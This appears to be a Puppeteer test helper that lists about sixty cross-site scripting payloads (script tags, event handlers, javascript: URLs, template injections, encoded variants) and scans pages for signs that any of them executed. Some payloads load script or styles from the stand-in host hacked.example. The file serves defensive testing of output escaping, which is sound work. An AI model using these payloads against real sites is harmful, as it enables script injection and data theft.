// What somebody could store to have it run in a page: markup, addresses, attributes, templates, each short enough for an event name.
import type { Page } from 'puppeteer-core';

const START = '<script>__hacked=1</script>';

/** Printable ASCII, at most 64 characters, all different. Each would set `window.__hacked` or make an element. */
export const INJECTIONS: readonly string[] = [
  START,
  `">${START}`,
  `'>${START}`,
  `</script>${START}`,
  `</textarea>${START}`,
  `</title>${START}`,
  `</style>${START}`,
  `</template>${START}`,
  `</option></select>${START}`,
  `-->${START}`,
  `]]>${START}`,
  '<script src=//hacked.example/x.js></script>',
  '<script src="data:,__hacked=1"></script>',
  '<script type=module>__hacked=1</script>',
  '<img src=x onerror=__hacked=1>',
  '"><img src=x onerror="__hacked=1">',
  '<IMG SRC=x OnErRoR=__hacked=1>',
  '<img/src=x/onerror=__hacked=1>',
  '<!--><img src=x onerror=__hacked=1>-->',
  '<svg onload=__hacked=1>',
  '<svg><script>__hacked=1</script></svg>',
  '<svg><animate onbegin=__hacked=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__hacked=1"><text>x',
  '<math><a href="javascript:__hacked=1">x',
  '<a href="javascript:__hacked=1">x</a>',
  '[x](javascript:__hacked=1)',
  'javascript:__hacked=1',
  'JaVaScRiPt:__hacked=1',
  'javascript&colon;__hacked=1',
  'data:text/html,<script>parent.__hacked=1</script>',
  '<iframe src="javascript:parent.__hacked=1">',
  '<iframe srcdoc="<script>parent.__hacked=1</script>">',
  '<object data="javascript:__hacked=1">',
  '<embed src="javascript:__hacked=1">',
  '<body onload=__hacked=1>',
  '<input autofocus onfocus=__hacked=1>',
  '<select autofocus onfocus=__hacked=1>',
  '<details open ontoggle=__hacked=1>',
  '<video><source onerror=__hacked=1>',
  '<audio src=x onerror=__hacked=1>',
  '<marquee onstart=__hacked=1>',
  '<form action="javascript:__hacked=1"><button autofocus>',
  '<button popovertarget=x onclick=__hacked=1>',
  "<style>@import'//hacked.example/x.css'</style>",
  '<p style="background:url(//hacked.example/x)">',
  '<meta http-equiv=refresh content="0;javascript:__hacked=1">',
  '<base href="//hacked.example/">',
  '<link rel=stylesheet href=//hacked.example/x.css>',
  '<x-hacked onclick=__hacked=1 tabindex=1>',
  '" onmouseover="__hacked=1',
  "' autofocus onfocus='__hacked=1",
  '${__hacked=1}',
  "{{constructor.constructor('__hacked=1')()}}",
  '{{#constructor}}__hacked=1{{/constructor}}',
  '";__hacked=1;//',
  "';__hacked=1;//",
  '\\";__hacked=1;//',
  '&lt;script&gt;__hacked=1&lt;/script&gt;',
  '&#60;img src=x onerror=__hacked=1&#62;',
  '%3Cscript%3E__hacked=1%3C/script%3E',
];

/** Before the page is loaded: what its policy refuses is written down. */
export const watchPolicy = (page: Page): Promise<unknown> =>
  page.evaluateOnNewDocument(() => {
    const here = window as unknown as { refusals: string[] };
    here.refusals = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample, blockedURI }) =>
      here.refusals.push(`${effectiveDirective} ${blockedURI} ${sample}`),
    );
  });

/** Traces of an injection that came alive; empty when all of them are only text. */
export const alive = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const here = window as unknown as { __hacked?: unknown; refusals: string[] };
    const found = here.__hacked === undefined ? [] : ['a script ran'];
    found.push(...here.refusals.map((line) => `the policy refused ${line}`));
    // No page of ours has any of these; the only frame that one has is the preview of an embed.
    const preview = `iframe[src^="${location.origin}/"][src*="host="]:not([srcdoc])`;
    const foreign = `iframe:not(${preview}), object, embed, base, marquee, math, audio, video, x-hacked, img[src="x"], meta[http-equiv="refresh"]`;
    const search = (root: Document | ShadowRoot): void => {
      for (const element of root.querySelectorAll(foreign)) found.push(`an element <${element.localName}>`);
      for (const element of root.querySelectorAll('script, style'))
        if (element.textContent.includes('hacked')) found.push(`an element <${element.localName}>`);
      for (const element of root.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          const address = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'style'].includes(name);
          if (name.startsWith('on') || (address && /javascript:|^\s*data:text|hacked\.example/i.test(value)))
            found.push(`<${element.localName} ${name}="${value}">`);
        }
        if (element.shadowRoot) search(element.shadowRoot);
      }
    };
    search(document);
    return found;
  });

/** Everything that stands on the page as text, also in shadow trees, fields and choices. */
export const wholeText = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const parts: string[] = [];
    const read = (node: Node): void => {
      if (node instanceof HTMLScriptElement || node instanceof HTMLStyleElement) return;
      if (node.nodeType === Node.TEXT_NODE) parts.push(node.textContent ?? '');
      if (node instanceof HTMLInputElement || node instanceof HTMLTextAreaElement) parts.push(node.value);
      if (node instanceof Element) node.shadowRoot?.childNodes.forEach(read);
      node.childNodes.forEach(read);
    };
    read(document.body);
    return parts.join('');
  });
